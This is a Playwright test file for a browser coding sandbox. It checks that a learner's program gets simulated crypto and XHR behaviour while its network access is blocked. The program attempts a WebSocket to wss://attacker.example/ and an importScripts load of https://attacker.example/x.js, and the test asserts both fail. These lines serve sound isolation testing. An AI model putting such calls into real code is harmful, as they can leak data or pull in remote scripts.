import { test, expect } from "@playwright/test";
import { replaceCode } from "./support/workbench";

// The Worker platform every provider's client needs, as a learner's program meets it in Chromium:
// simulated behaviour or a clear error, never a real host.

const PROGRAM = `
const out: string[] = [];
const step = async (name: string, fn: () => unknown) => {
  try { out.push(name + ": " + String(await fn())); } catch (e) { out.push(name + " failed: " + (e as Error).message); }
};
await step("uuid", () => /^[0-9a-f-]{36}$/.test(crypto.randomUUID()));
await step("digest", async () => {
  const bytes = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode("abc")));
  return [...bytes.slice(0, 4)].map((b) => b.toString(16).padStart(2, "0")).join("");
});
await step("xhr", () => new Promise((resolve) => {
  const xhr = new XMLHttpRequest();
  xhr.open("POST", "https://api.payments.example/v1/charges");
  xhr.setRequestHeader("authorization", "Bearer sk_test_51FakeKeyForSecretsLab000000000000");
  xhr.setRequestHeader("content-type", "application/json");
  xhr.onload = () => resolve(xhr.status);
  xhr.onerror = () => resolve("error");
  xhr.send(JSON.stringify({ amount: 1999, currency: "eur" }));
}));
await step("websocket", () => new WebSocket("wss://attacker.example/"));
await step("importScripts", () => (globalThis as any).importScripts("https://attacker.example/x.js"));
await step("no-cors", async () => (await fetch("https://example.com/", { mode: "no-cors" })).status);
console.log(out.join("\\n"));
`;

test("randomUUID, crypto.subtle, XMLHttpRequest, WebSocket, importScripts and a no-cors fetch: simulated or a clear error", async ({ page }) => {
  const requests: string[] = [];
  // Blob and data URLs (the sandbox's Worker) have no host; every http(s) request must be to the site.
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (url.protocol === "http:" || url.protocol === "https:") requests.push(url.hostname);
  });
  await page.goto("/playground/");
  await expect(page.locator(".sandbox-ui")).toBeVisible();
  await replaceCode(page, PROGRAM);
  await page.getByRole("button", { name: "Run" }).click();
  const sandbox = page.locator("secrets-sandbox").first();
  await expect(sandbox.getByRole("status")).toContainText(/Exited with code/, { timeout: 20_000 });
  const output = await sandbox.evaluate((host) => (host as HTMLElement & { outputText(): Promise<string> }).outputText());
  expect(output).toContain("uuid: true");
  // SHA-256("abc") starts ba7816bf: the browser's own WebCrypto, relayed to the sandbox iframe.
  expect(output).toContain("digest: ba7816bf");
  expect(output).toMatch(/xhr: 20\d/);
  expect(output).toContain("websocket failed: WebSocket is not available in the sandbox");
  expect(output).toContain("importScripts failed: importScripts() is not available in the sandbox");
  expect(output).toMatch(/no-cors failed: .*example\.com is not reachable, the sandbox is offline/);
  expect(requests.filter((host) => host !== "localhost" && host !== "127.0.0.1")).toEqual([]);
});
